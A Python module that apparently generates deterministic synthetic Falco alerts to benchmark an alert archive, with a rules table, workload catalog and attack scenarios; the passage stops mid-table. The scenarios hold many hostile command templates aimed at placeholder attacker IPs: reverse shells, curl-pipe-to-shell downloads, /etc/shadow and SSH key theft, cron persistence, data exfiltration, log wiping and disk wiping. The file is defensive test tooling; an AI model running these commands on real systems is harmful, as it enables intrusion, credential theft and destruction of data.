"""Deterministic generator of realistic synthetic Falco alerts, and writers for the layouts we read.

Why this exists: public Falco alerts are few and hand-edited, yet the archive has to be measured on
10^5-10^6 alerts and the demo build needs enough variety that every aggregate page has several
entries. So we synthesise alerts the way Falco itself writes them: each rule's *real* ``output``
format (from falcosecurity/rules, trimmed into ``rules_summary.tsv`` next to this file) is rendered
with exactly the values that land in ``output_fields``, so the message and the fields always agree.

Realism choices, each because the archive's grouping, sorting and escaping depend on it:

* rules and hosts are Zipf-distributed: a few noisy rules/hosts dominate, most form a long tail;
* alerts come in incidents (bursts of seconds to minutes), and inside a burst some alerts repeat
  exactly (same rule, host and command line), which is what deduplication has to collapse;
* values have Falco's types: 19-digit nanosecond ints (> 2^53, so a float parser corrupts them),
  ``null`` for absent values (rendered ``<NA>`` in the message), ``ka.response.code`` as a string;
* command lines are attacker-shaped: pipes, quotes, ``$(...)``, ``{{7*7}}``, ``<script>``.

Determinism: one ``random.Random(seed)`` drives everything, no set or hash order is ever iterated,
and gzip members are written with ``mtime=0``; the same arguments give the same bytes.

Usage::

    python -m benchmarks.synth --count 100000 --seed 1 --out benchmarks/out/100k --layout mixed
    python -m benchmarks.synth --demo --out alerts   # regenerates the bundled synthetic input
"""

from __future__ import annotations

import argparse
import base64
import bisect
import collections
import gzip
import json
import logging
import operator
import random
import re
import shutil
import sys
import time as _time
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, BinaryIO, Protocol, TypeVar

from generator.read.models import Priority

log = logging.getLogger(__name__)

Alert = dict[str, Any]
_T = TypeVar("_T")

#: Falco's own spellings, most to least severe (the package's Priority is the source).
PRIORITIES: tuple[str, ...] = tuple(p.label for p in Priority)
_PRIORITY_SPELLING = {p.upper(): p for p in PRIORITIES} | {"INFO": "Informational"}

RULES_TSV = Path(__file__).with_name("rules_summary.tsv")
DEFAULT_START = datetime(2026, 1, 1, tzinfo=UTC)
LAYOUTS: tuple[str, ...] = ("jsonl", "jsonl.gz", "s3", "mixed")
#: Seed and window of the committed demo input under ``alerts/`` (see ``write_demo``).
DEMO_SEED = 20283669
DEMO_START = datetime(2026, 11, 16, tzinfo=UTC)
DEMO_COUNT = 300
DEMO_HOSTS = 6
DEMO_S3_DAY = "2026-11-20"

_NS = 1_000_000_000
_FIELD_RE = re.compile(r"%([A-Za-z_][A-Za-z0-9_.]*(?:\[[^\]]*\])?)")

# Falco >= 0.41 with the container plugin appends this to every syscall rule's output.
SYSCALL_SUFFIX = (
    " container_id=%container.id container_name=%container.name"
    " container_image_repository=%container.image.repository"
    " container_image_tag=%container.image.tag k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name"
)
# Fields a typical falco.yaml adds with ``append_output: extra_fields`` (output_fields only).
_EXTRA_FIELDS: dict[str, tuple[str, ...]] = {
    "syscall": (
        "evt.time",
        "evt.type",
        "fd.name",
        "proc.aname[2]",
        "proc.aname[3]",
        "proc.cmdline",
        "proc.exepath",
        "proc.name",
        "proc.pcmdline",
        "proc.pid",
        "proc.pname",
        "proc.ppid",
        "proc.tty",
        "user.loginuid",
        "user.name",
        "user.uid",
    ),
    "k8s_audit": (
        "evt.time",
        "ka.auditid",
        "ka.response.code",
        "ka.sourceips",
        "ka.target.name",
        "ka.target.namespace",
        "ka.target.resource",
        "ka.uri",
        "ka.user.name",
        "ka.useragent",
        "ka.verb",
    ),
    "aws_cloudtrail": (
        "evt.time",
        "ct.id",
        "ct.name",
        "ct.region",
        "ct.srcip",
        "ct.user",
        "ct.user.accountid",
        "ct.user.identitytype",
        "ct.useragent",
    ),
}


# --------------------------------------------------------------------------------------------
# Rules
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Rule:
    """One Falco rule as the generator needs it: metadata plus a compiled output format."""

    name: str
    priority: str
    source: str
    tags: tuple[str, ...]
    file: str
    #: printf-style format with ``%(field)s`` placeholders (literal ``%`` doubled).
    fmt: str
    #: ``output_fields`` keys in the sorted order Falco writes them.
    keys: tuple[str, ...]
    #: ``fmt`` with positional ``%s`` placeholders, and the field behind each one, in order.
    fmt_pos: str = ""
    fmt_fields: tuple[str, ...] = ()


def _compile_output(output: str, positional: bool = False) -> tuple[str, list[str]]:
    """Turn Falco's ``%field`` syntax into a ``%(field)s`` format and list the fields it uses.

    Falco field names never end with a dot, so ``%fd.name.`` means the field then a full stop.
    """
    parts: list[str] = []
    fields: list[str] = []
    pos = 0
    for m in _FIELD_RE.finditer(output):
        name, end = m.group(1), m.end()
        while name.endswith("."):
            name, end = name[:-1], end - 1
        parts.append(output[pos : m.start()].replace("%", "%%"))
        parts.append("%s" if positional else f"%({name})s")
        fields.append(name)
        pos = end
    parts.append(output[pos:].replace("%", "%%"))
    return "".join(parts), fields


def load_rules(path: Path = RULES_TSV) -> tuple[Rule, ...]:
    """Read the trimmed rules table (``#`` lines are comments) into compiled ``Rule`` objects."""
    rules: list[Rule] = []
    with path.open(encoding="utf-8") as fh:
        lines = [ln.rstrip("\n") for ln in fh if ln.strip() and not ln.startswith("#")]
    header = lines[0].split("\t")
    for line in lines[1:]:
        row = dict(zip(header, line.split("\t"), strict=True))
        source = row["source"]
        output = row["output"] + (SYSCALL_SUFFIX if source == "syscall" else "")
        fmt, fields = _compile_output(output)
        fmt_pos, _ = _compile_output(output, positional=True)
        keys = tuple(sorted(set(fields) | set(_EXTRA_FIELDS.get(source, ()))))
        rules.append(
            Rule(
                name=row["rule"],
                priority=_PRIORITY_SPELLING[row["priority"].upper()],
                source=source,
                tags=tuple(sorted(t for t in row["tags"].split(",") if t)),
                file=row["file"],
                fmt=fmt,
                keys=keys,
                fmt_pos=fmt_pos,
                fmt_fields=tuple(fields),
            )
        )
    return tuple(rules)


RULES: tuple[Rule, ...] = load_rules()


# --------------------------------------------------------------------------------------------
# Value pools (documentation IP ranges only: RFC 5737 for "the internet", RFC 1918 inside)
# --------------------------------------------------------------------------------------------

_ATTACKER_IPS = (
    "203.0.113.7",
    "203.0.113.45",
    "203.0.113.201",
    "198.51.100.23",
    "198.51.100.77",
    "198.51.100.140",
    "192.0.2.14",
    "192.0.2.199",
)
_ATTACKER_PORTS = (4444, 4444, 9001, 1337, 443, 8443, 53, 8080)
_RS_ALPHABET = "bcdfghjklmnpqrstvwxz2456789"  # what Kubernetes uses for generated name suffixes
_TOKEN_ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789"
_B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
_DOCS = (
    "q3-report.xlsx",
    "payroll-2026-10.csv",
    "contracts/acme-msa.pdf",
    "board/minutes-2026-11.docx",
    "customers.sqlite",
    "design/roadmap.pptx",
)
_TOOLS = ("ps", "netstat", "ss", "ls", "top", "lsof", "crontab")
_SHADOWISH = (
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/pam.d/common-auth",
    "/etc/shadow-",
    "/etc/gshadow",
)

# One workload per line: kind namespace name container image tags user uid role (``-`` = none).
_CATALOG_TABLE = """
deploy payments payments-api api ghcr.io/acme/payments-api v2.14.3,v2.14.4,v2.15.0 app 1000 web
deploy web storefront nginx docker.io/library/nginx 1.27.2,1.27.3 nginx 101 web
deploy web storefront-php php-fpm docker.io/library/php 8.3.13-fpm,8.3.14-fpm www-data 33 web
deploy shop checkout-web node ghcr.io/acme/checkout-web 2026.11.2,2026.11.4 node 1000 web
sts data postgres postgres docker.io/library/postgres 16.4,16.6 postgres 999 db
sts data redis redis docker.io/library/redis 7.4.1-alpine redis 999 db
sts monitoring prometheus-k8s prometheus quay.io/prometheus/prometheus v2.55.1 nobody 65534 app
deploy kube-system coredns coredns registry.k8s.io/coredns/coredns v1.11.3 root 0 app
deploy ci gitlab-runner runner registry.gitlab.com/gitlab-org/gitlab-runner alpine-v17.5.3 root 0 tool
deploy ml jupyter notebook quay.io/jupyter/scipy-notebook 2026-11-02 jovyan 1000 web
ds falco falco falco docker.io/falcosecurity/falco 0.42.1 root 0 app
ds logging fluent-bit fluent-bit cr.fluentbit.io/fluent/fluent-bit 3.2.1 root 0 app
deploy argocd argocd-repo-server argocd-repo-server quay.io/argoproj/argocd v2.13.1 argocd 999 tool
deploy default debug-toolbox toolbox docker.io/library/alpine 3.20,latest root 0 tool
docker - eventgen eventgen falcosecurity/event-generator latest root 0 tool
docker - legacy-billing billing_app_1 registry.acme.example/billing/legacy 2019.4 root 0 web
"""
# name -> (executable, main command line)
_ENTRYPOINTS: dict[str, tuple[str, str]] = {
    "payments-api": (
        "/opt/java/openjdk/bin/java",
        "java -XX:MaxRAMPercentage=75 -jar /app/payments-api.jar --spring.profiles.active=prod",
    ),
    "storefront": ("/usr/sbin/nginx", "nginx: worker process"),
    "storefront-php": ("/usr/local/sbin/php-fpm", "php-fpm: pool www"),
    "checkout-web": ("/usr/local/bin/node", "node /app/dist/server.js --port 3000"),
    "postgres": (
        "/usr/lib/postgresql/16/bin/postgres",
        "postgres -c config_file=/etc/postgresql/postgresql.conf",
    ),
    "redis": ("/usr/local/bin/redis-server", "redis-server *:6379"),
    "prometheus-k8s": (
        "/bin/prometheus",
        "/bin/prometheus --config.file=/etc/prometheus/config_out/prometheus.env.yaml"
        " --storage.tsdb.path=/prometheus --storage.tsdb.retention.time=24h",
    ),
    "coredns": ("/coredns", "/coredns -conf /etc/coredns/Corefile"),
    "gitlab-runner": (
        "/usr/bin/gitlab-runner",
        "gitlab-runner run --user=gitlab-runner --working-directory=/home/gitlab-runner",
    ),
    "jupyter": (
        "/opt/conda/bin/python3.12",
        "/opt/conda/bin/python3.12 /opt/conda/bin/jupyter-lab --ip=0.0.0.0 --port=8888 --no-browser",
    ),
    "falco": ("/usr/bin/falco", "/usr/bin/falco --cri /run/containerd/containerd.sock -pk"),
    "fluent-bit": (
        "/fluent-bit/bin/fluent-bit",
        "/fluent-bit/bin/fluent-bit -c /fluent-bit/etc/conf/fluent-bit.conf",
    ),
    "argocd-repo-server": (
        "/usr/local/bin/argocd-repo-server",
        "/usr/local/bin/argocd-repo-server --port=8081 --metrics-port=8084",
    ),
    "debug-toolbox": ("/bin/busybox", "sleep infinity"),
    "eventgen": ("/bin/event-generator", "event-generator run syscall --loop"),
    "legacy-billing": ("/usr/bin/python2.7", "python2 /srv/billing/app.py --port 8000"),
}
_CATALOG: tuple[tuple[str, ...], ...] = tuple(
    tuple(line.split()) for line in _CATALOG_TABLE.strip().splitlines()
)

_EXEPATHS = {
    "bash": "/usr/bin/bash",
    "sh": "/usr/bin/dash",
    "curl": "/usr/bin/curl",
    "wget": "/usr/bin/wget",
    "nc": "/usr/bin/nc.openbsd",
    "ncat": "/usr/bin/ncat",
    "socat": "/usr/bin/socat",
    "python3": "/usr/bin/python3.12",
    "python": "/usr/bin/python3.12",
    "kubectl": "/usr/local/bin/kubectl",
    "find": "/usr/bin/find",
    "grep": "/usr/bin/grep",
    "cat": "/usr/bin/cat",
    "nmap": "/usr/bin/nmap",
    "xmrig": "/tmp/.x/xmrig",
    "apt-get": "/usr/bin/apt-get",
    "apk": "/sbin/apk",
    "pip": "/usr/local/bin/pip",
    "insmod": "/usr/sbin/insmod",
    "mount": "/usr/bin/mount",
    "debugfs": "/usr/sbin/debugfs",
    "nsenter": "/usr/bin/nsenter",
    "unshare": "/usr/bin/unshare",
    "sudoedit": "/usr/bin/sudo",
    "pkexec": "/usr/bin/pkexec",
    "useradd": "/usr/sbin/useradd",
    "usermod": "/usr/sbin/usermod",
    "sshd": "/usr/sbin/sshd",
    "bpftool": "/usr/sbin/bpftool",
}
_BUSYBOX = frozenset(
    re.findall(
        r"\S+",
        "sh ash cat ls grep find ln rm mv cp chmod mkdir touch head tail wget nc tar dd mount "
        "base64 id whoami uname hostname ps sed tee truncate mknod",
    )
)


# --------------------------------------------------------------------------------------------
# Syscall scenarios: what process, file and connection a rule plausibly fires on
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Scen:
    """A family of syscall activity. ``cmds`` entries are (cmdline, fd.name, second path)."""

    cmds: tuple[tuple[str, str | None, str | None], ...]
    evt: tuple[str, ...] = ("execve",)
    parents: tuple[str, ...] = ("exec",)
    where: str = "any"  # "container", "host" or "any"
    role: str | None = None  # preferred workload role ("web", "db")
    net: str | None = None  # connection kind for fd.name


def _c(cmd: str, file: str | None = None, path2: str | None = None) -> tuple[str, str | None, str | None]:
    return (cmd, file, path2)


_SCENARIOS: dict[str, _Scen] = {
    "shell_tty": _Scen(
        cmds=(
            _c("bash --login"),
            _c("sh -c clear; (bash || ash || sh)"),
            _c(
                "/bin/sh -c TERM=xterm-256color; export TERM; [ -x /bin/bash ] && ([ -x "
                '/usr/bin/script ] && /usr/bin/script -q -c "/bin/bash" /dev/null || exec '
                "/bin/bash) || exec /bin/sh"
            ),
            _c("bash -il -c 'cd /app && exec bash'"),
            _c("sh -lc echo hello-from-shell"),
        ),
        parents=("exec",),
        where="container",
    ),
    "recon": _Scen(
        cmds=(
            _c("uname -a; id; cat /etc/os-release"),
            _c("whoami && hostname -i"),
            _c("ls -la /var/run/secrets/kubernetes.io/serviceaccount"),
            _c("cat /proc/1/cgroup; mount | grep -E 'overlay|cgroup'"),
            _c("ps auxwwf --sort=-%cpu"),
            _c("ip addr show; ip route; cat /etc/resolv.conf"),
        ),
        parents=("shell",),
    ),
    "app_shell": _Scen(
        cmds=(
            _c("sh -c id; uname -a"),
            _c("sh -c ls -la /var/www/html/uploads"),
            _c("sh -c curl -s http://{ip}:{port}/{rand}.sh | sh"),
            _c("sh -c wget -qO- http://{ip}/x | sh"),
            _c("bash -c echo {b64} | base64 -d | bash"),
            _c("sh -c cat /etc/passwd; echo {{{{7*7}}}}"),
            _c("sh -c curl -s 'http://{ip}/?q=<script>alert(document.domain)</script>'"),
            _c('/bin/sh -c php -r \'$sock=fsockopen("{ip}",{port});exec("/bin/sh -i <&3 >&3 2>&3");\''),
        ),
        parents=("app",),
        where="container",
        role="web",
    ),
    "db_child": _Scen(
        cmds=(
            _c("sh -c COPY (SELECT '') TO PROGRAM 'id > /tmp/.o'"),
            _c("sh -c curl -fsSL http://{ip}/pg.sh | bash"),
            _c("bash -c bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
        ),
        parents=("app",),
        where="container",
        role="db",
    ),
    "reverse_shell": _Scen(
        cmds=(
            _c("bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'"),
            _c("nc -e /bin/sh {ip} {port}"),
            _c("ncat {ip} {port} -e /bin/bash"),
            _c("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}"),
            _c("sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f"),
            _c(
                "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
                'socket.SOCK_STREAM);s.connect(("{ip}",{port}));os.dup2(s.fileno(),0);'
                ' os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")\''
            ),
        ),
        evt=("dup2", "dup3", "connect"),
        parents=("app", "shell"),
        net="attacker",
    ),
    "web_reverse_shell": _Scen(
        cmds=(
            _c("sh -c bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
            _c("sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f"),
            _c("bash -c exec 5<>/dev/tcp/{ip}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done"),
        ),
        parents=("app",),
        where="container",
        role="web",
        net="attacker",
    ),
    "netcat": _Scen(
        cmds=(
            _c("nc -e /bin/sh {ip} {port}"),
            _c("nc -lvnp {port} -e /bin/bash"),
            _c("ncat --ssl -e /bin/bash {ip} {port}"),
            _c("socat TCP4-LISTEN:{port},reuseaddr,fork EXEC:/bin/bash,pty,stderr"),
        ),
        parents=("shell", "app"),
    ),
    "sensitive_read": _Scen(
        cmds=(
            _c("cat /etc/shadow", "/etc/shadow"),
            _c("grep -v nologin /etc/shadow", "/etc/shadow"),
            _c("head -n 5 /etc/shadow", "/etc/shadow"),
            _c("less /etc/sudoers", "/etc/sudoers"),
            _c("cp /etc/shadow /tmp/.{rand}", "/etc/shadow"),
            _c("python3 /tmp/.{rand}/dump.py --target /etc/shadow --out /dev/shm/.s", "/etc/shadow"),
            _c("cat /etc/pam.d/common-auth", "/etc/pam.d/common-auth"),
            _c("sudo cat /etc/shadow", "/etc/shadow"),
        ),
        evt=("openat", "open"),
        parents=("shell", "exec", "ssh"),
    ),
    "traversal_read": _Scen(
        cmds=(
            _c("php-fpm: pool www", "/etc/shadow"),
            _c("python3 /app/serve.py --root /srv/files", "/etc/passwd"),
            _c("node /app/dist/server.js --port 3000", "/etc/shadow"),
        ),
        evt=("openat",),
        parents=("app",),
        role="web",
    ),
    "ssh_read": _Scen(
        cmds=(
            _c("cat /root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
            _c("cp -r /home/ubuntu/.ssh /tmp/.k", "/home/ubuntu/.ssh/id_ed25519"),
            _c("grep -r PRIVATE /root/.ssh", "/root/.ssh/id_ed25519"),
            _c("tar czf /tmp/.{rand}.tgz /root/.ssh", "/root/.ssh/known_hosts"),
        ),
        evt=("openat",),
        parents=("shell", "ssh"),
    ),
    "proc_environ": _Scen(
        cmds=(
            _c("cat /proc/1/environ", "/proc/1/environ"),
            _c("strings /proc/{n}/environ", "/proc/{n}/environ"),
            _c(
                "sh -c tr '\\0' '\\n' < /proc/self/environ | grep -i -E 'key|secret|token'",
                "/proc/self/environ",
            ),
        ),
        evt=("openat",),
        parents=("shell",),
        where="container",
    ),
    "host_paths": _Scen(
        cmds=(
            _c("cat /host/etc/shadow", "/host/etc/shadow"),
            _c("ls -la /host/root/.ssh", "/host/root/.ssh"),
            _c(
                "chroot /host bash -c 'cat /etc/kubernetes/admin.conf'",
                "/host/etc/kubernetes/admin.conf",
            ),
        ),
        evt=("openat",),
        parents=("shell",),
        where="container",
    ),
    "block_device": _Scen(
        cmds=(
            _c("dd if=/dev/nvme0n1p1 of=/tmp/disk.img bs=4M count=64", "/dev/nvme0n1p1"),
            _c("debugfs -w /dev/sda1", "/dev/sda1"),
            _c("mount /dev/sda1 /mnt/host", "/dev/sda1"),
        ),
        evt=("openat",),
        parents=("shell",),
        where="container",
    ),
    "search_keys": _Scen(
        cmds=(
            _c("find / -name id_rsa -o -name '*.pem' 2>/dev/null"),
            _c("grep -rn 'BEGIN RSA PRIVATE KEY' /home /root /opt"),
            _c("find /tmp -maxdepth 1 -iname id_rsa"),
            _c("grep -ri password= /var/www/html --include=*.php"),
        ),
        parents=("shell", "ssh"),
    ),
    "aws_creds": _Scen(
        cmds=(
            _c("find / -path '*/.aws/credentials' -type f 2>/dev/null"),
            _c("grep -ri aws_secret_access_key /root /home /var/lib/jenkins"),
            _c("find /tmp -maxdepth 1 -iname .aws/credentials"),
        ),
        parents=("shell",),
    ),
    "log_tamper": _Scen(
        cmds=(
            _c("truncate -s 0 /var/log/auth.log", "/var/log/auth.log"),
            _c("shred -u -z /var/log/syslog", "/var/log/syslog"),
            _c("sh -c echo > /var/log/nginx/access.log", "/var/log/nginx/access.log"),
            _c("rm -f /var/log/wtmp /var/log/btmp", "/var/log/wtmp"),
        ),
        evt=("openat", "unlinkat"),
        parents=("shell", "ssh"),
    ),
    "bulk_remove": _Scen(
        cmds=(
            _c("dd if=/dev/zero of=/dev/sdb bs=1M", "/dev/sdb"),
            _c("shred -n 3 -z /srv/data/db.sqlite", "/srv/data/db.sqlite"),
            _c("rm -rf --no-preserve-root /var/lib/mysql", None),
        ),
        parents=("shell", "ssh"),
    ),
    "history": _Scen(
        cmds=(
            _c("rm -f /root/.bash_history", "/root/.bash_history", "/root/.bash_history"),
            _c("mv /home/ubuntu/.bash_history /tmp/.h", "/home/ubuntu/.bash_history", "/tmp/.h"),
            _c(
                "sh -c unset HISTFILE; rm -f ~/.ash_history",
                "/root/.ash_history",
                "/root/.ash_history",
            ),
        ),
        evt=("unlinkat", "renameat2"),
        parents=("shell", "ssh"),
    ),
    "symlink": _Scen(
        cmds=(
            _c("ln -s /etc /tmp/.{rand}/etc_link", "/etc", "/tmp/.{rand}/etc_link"),
            _c("ln -s /etc/shadow /var/www/html/s.txt", "/etc/shadow", "/var/www/html/s.txt"),
            _c("ln -sf /root/.ssh /tmp/k", "/root/.ssh", "/tmp/k"),
        ),
        evt=("symlinkat", "symlink"),
        parents=("shell",),
    ),
    "hardlink": _Scen(
        cmds=(
            _c("ln /etc/shadow /tmp/.{rand}", "/etc/shadow", "/tmp/.{rand}"),
            _c("ln /etc/sudoers /dev/shm/x", "/etc/sudoers", "/dev/shm/x"),
        ),
        evt=("linkat", "link"),
        parents=("shell",),
    ),
    "write_bin": _Scen(
        cmds=(
            _c("touch /bin/hack", "/bin/hack"),
            _c("cp /tmp/.{rand} /usr/bin/{tool}", "/usr/bin/{tool}"),
            _c(
                "curl -so /usr/local/bin/kubectl https://dl.k8s.io/release/v1.31.2/bin/linux/amd64/kubectl",
                "/usr/local/bin/kubectl",
            ),
            _c("wget -q http://{ip}/bins/{tool} -O /usr/sbin/{tool}", "/usr/sbin/{tool}"),
        ),
        evt=("openat",),
        parents=("shell", "app"),
    ),
    "write_local_bin": _Scen(
        cmds=(
            _c("sh -c echo drift > /usr/local/bin/drift.txt", "/usr/local/bin/drift.txt"),
            _c("cp /tmp/{rand} /usr/local/bin/{rand}", "/usr/local/bin/{rand}"),
            _c("pip install --target /usr/local/bin {rand}", "/usr/local/bin/{rand}"),
        ),
        evt=("openat",),
        parents=("shell",),
        where="container",
    ),
    "write_etc": _Scen(
        cmds=(
            _c(
                "sed -i s/#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config",
                "/etc/ssh/sshd_config",
            ),
            _c("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm", "/etc/passwd"),
            _c("sh -c echo 'nameserver {ip}' > /etc/resolv.conf", "/etc/resolv.conf"),
            _c("tee -a /etc/hosts", "/etc/hosts"),
            _c("sh -c echo '{ip} registry.npmjs.org' >> /etc/hosts", "/etc/hosts"),
        ),
        evt=("openat",),
        parents=("shell", "ssh"),
    ),
    "write_root": _Scen(
        cmds=(
            _c("touch /root/.{rand}", "/root/.{rand}"),
            _c("sh -c echo {b64} > /.{rand}", "/.{rand}"),
            _c("vi /root/.profile", "/root/.profile"),
        ),
        evt=("openat",),
        parents=("shell",),
    ),
    "write_monitored": _Scen(
        cmds=(
            _c("tee /boot/.{rand}", "/boot/.{rand}"),
            _c(
                "cp /tmp/x.service /lib/systemd/system/{rand}.service",
                "/lib/systemd/system/{rand}.service",
            ),
        ),
        evt=("openat",),
        parents=("shell", "ssh"),
        where="host",
    ),
    "write_rpmdb": _Scen(
        cmds=(
            _c("python3 /opt/agent/inventory.py --scan", "/var/lib/rpm/rpmdb.sqlite-shm"),
            _c("sh -c cp /tmp/Packages /var/lib/rpm/Packages", "/var/lib/rpm/Packages"),
        ),
        evt=("openat",),
        parents=("shell", "cron"),
    ),
    "modify_bin": _Scen(
        cmds=(
            _c("mv /usr/bin/ps /usr/bin/.ps.orig", "/usr/bin/ps", "/usr/bin/.ps.orig"),
            _c("rm -f /usr/bin/{tool}", "/usr/bin/{tool}", "/usr/bin/{tool}"),
        ),
        evt=("renameat2", "unlinkat"),
        parents=("shell",),
    ),
    "mkdir_bin": _Scen(
        cmds=(
            _c("mkdir -p /usr/bin/.cache", "/usr/bin/.cache", "/usr/bin/.cache"),
            _c("mkdir /bin/.{rand}", "/bin/.{rand}", "/bin/.{rand}"),
        ),
        evt=("mkdirat", "mkdir"),
        parents=("shell",),
    ),
    "create_dev": _Scen(
        cmds=(
            _c("mknod /dev/.{rand} c 1 3", "/dev/.{rand}"),
            _c("touch /dev/shm/.x/../.{rand}", "/dev/.{rand}"),
        ),
        evt=("openat", "mknodat"),
        parents=("shell",),
        where="host",
    ),
    "shell_config": _Scen(
        cmds=(
            _c("sh -c echo 'alias sudo=\"sudo -E\"' >> /root/.bashrc", "/root/.bashrc"),
            _c("sh -c echo 'curl -s http://{ip}/b | sh &' >> /etc/profile", "/etc/profile"),
            _c("vim /home/ubuntu/.zshrc", "/home/ubuntu/.zshrc"),
        ),
        evt=("openat",),
        parents=("shell", "ssh"),
    ),
    "cron": _Scen(
        cmds=(
            _c(
                "crontab -l | {{ cat; echo '*/5 * * * * curl -fsSL http://{ip}/c.sh | sh'; }} | crontab -",
                "/var/spool/cron/crontabs/root",
            ),
            _c(
                "sh -c echo '* * * * * root /tmp/.{rand}' > /etc/cron.d/{rand}",
                "/etc/cron.d/{rand}",
            ),
            _c("crontab /tmp/.c", "/var/spool/cron/crontabs/root"),
        ),
        evt=("openat",),
        parents=("shell", "ssh"),
    ),
    "authorized_keys": _Scen(
        cmds=(
            _c(
                "sh -c echo 'ssh-ed25519 {key} root@kali' >> /root/.ssh/authorized_keys",
                "/root/.ssh/authorized_keys",
            ),
            _c("tee -a /home/ubuntu/.ssh/authorized_keys", "/home/ubuntu/.ssh/authorized_keys"),
        ),
        evt=("openat",),
        parents=("shell", "ssh"),
        where="host",
    ),
    "pkg_repo": _Scen(
        cmds=(
            _c(
                "sh -c echo 'deb http://{ip}/debian bookworm main' > /etc/apt/sources.list.d/mirror.list",
                "/etc/apt/sources.list.d/mirror.list",
                "/etc/apt/sources.list.d/mirror.list",
            ),
            _c(
                "apt-get update",
                "/var/lib/apt/lists/partial/deb.debian.org_debian_dists_bookworm_InRelease",
                "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease",
            ),
        ),
        evt=("openat", "renameat2"),
        parents=("shell",),
    ),
    "setuid": _Scen(
        cmds=(
            _c("chmod u+s /tmp/.{rand}", "/tmp/.{rand}"),
            _c("chmod 4755 /usr/local/bin/helper", "/usr/local/bin/helper"),
            _c("chmod +s /bin/bash", "/bin/bash"),
        ),
        evt=("fchmodat", "chmod"),
        parents=("shell",),
    ),
    "pkg_mgmt": _Scen(
        cmds=(
            _c("apt-get install -y netcat-openbsd nmap"),
            _c("apk add --no-cache curl socat"),
            _c("pip install --quiet requests paramiko"),
            _c("yum -y install tcpdump"),
            _c("apt-get update -qq"),
        ),
        parents=("shell", "exec"),
        where="container",
    ),
    "net_tool": _Scen(
        cmds=(
            _c("nmap -sS -Pn -p 1-65535 10.0.0.0/16"),
            _c("nc -zv {ip} 22-443"),
            _c("tcpdump -i any -w /tmp/cap.pcap port 443"),
            _c("masscan 10.0.0.0/8 -p 6443,10250 --rate 10000"),
            _c("nmap -sV --script vuln {ip}"),
        ),
        parents=("shell",),
    ),
    "copy_tool": _Scen(
        cmds=(
            _c("scp -P 2222 /tmp/dump.tar.gz root@{ip}:/data/"),
            _c("rsync -az /var/lib/postgresql/ backup@{ip}:/srv/exfil/"),
            _c("sftp -oPort=2222 user@{ip}"),
            _c("curl -s -T /tmp/.{rand}.tgz ftp://{ip}/upload/"),
        ),
        parents=("shell",),
        where="container",
    ),
    "ingress_copy": _Scen(
        cmds=(
            _c("curl -fsSL http://{ip}:{port}/install.sh -o /tmp/i.sh"),
            _c("wget -q http://{ip}/{rand} -O /tmp/.{rand}"),
            _c("curl -sk https://{ip}/static/{rand}.bin -H 'User-Agent: Mozilla/5.0' -o /dev/shm/k"),
        ),
        parents=("shell", "app"),
        where="container",
    ),
    "npm_net": _Scen(
        cmds=(
            _c("curl -s https://{ip}/pkg/postinstall.sh -o /tmp/p.sh"),
            _c("wget -qO- http://{ip}:{port}/telemetry?h=$(hostname)"),
            _c("nc {ip} {port}"),
        ),
        parents=("npm",),
        where="container",
    ),
    "proxy_env": _Scen(
        cmds=(
            _c("curl -s https://registry.npmjs.org/left-pad"),
            _c("wget -q https://github.com/acme/tools/releases/download/v1.2.0/tool.tgz"),
        ),
        parents=("shell", "app"),
    ),
    "env_privesc": _Scen(
        cmds=(
            _c("env LD_PRELOAD=/tmp/libhax.so /usr/bin/sudo -l"),
            _c("sh -c GCONV_PATH=. LD_LIBRARY_PATH=/tmp/.l pkexec"),
        ),
        parents=("shell", "ssh"),
    ),
    "k8s_client": _Scen(
        cmds=(
            _c("kubectl get secrets -A -o yaml"),
            _c("kubectl auth can-i --list"),
            _c("kubectl -n kube-system get pods -o wide"),
            _c("kubectl exec -it {pod} -n {ns} -- sh"),
            _c(
                "kubectl create clusterrolebinding pwn-{rand} --clusterrole=cluster-admin "
                "--serviceaccount=default:default"
            ),
            _c("kubectl get --raw /api/v1/nodes/{host}/proxy/configz"),
        ),
        parents=("shell",),
        where="container",
    ),
    "k8s_exfil": _Scen(
        cmds=(
            _c("tar cf - /var/lib/app/data", "/var/lib/app/data/users.db"),
            _c("tar cf - /app/config", "/app/config/secrets.yaml"),
        ),
        evt=("openat",),
        parents=("exec",),
        where="container",
    ),
    "k8s_api_conn": _Scen(
        cmds=(
            _c("python3 /app/controller.py --watch pods"),
            _c(
                "curl -sk https://kubernetes.default.svc/api/v1/namespaces/{ns}/secrets -H "
                '"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"'
            ),
            _c("handler --in-cluster --namespace {ns}"),
        ),
        evt=("connect",),
        parents=("app", "shell"),
        where="container",
        net="k8sapi",
    ),
    "imds": _Scen(
        cmds=(
            _c("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
            _c("wget -qO- http://169.254.169.254/latest/user-data"),
            _c(
                "python3 -c 'import urllib.request as u;print(u.urlopen(\"http://169.254.169.254/"
                "latest/meta-data/iam/info\").read())'"
            ),
        ),
        evt=("connect",),
        parents=("shell", "app"),
        where="container",
        net="imds",
    ),
    "outbound": _Scen(
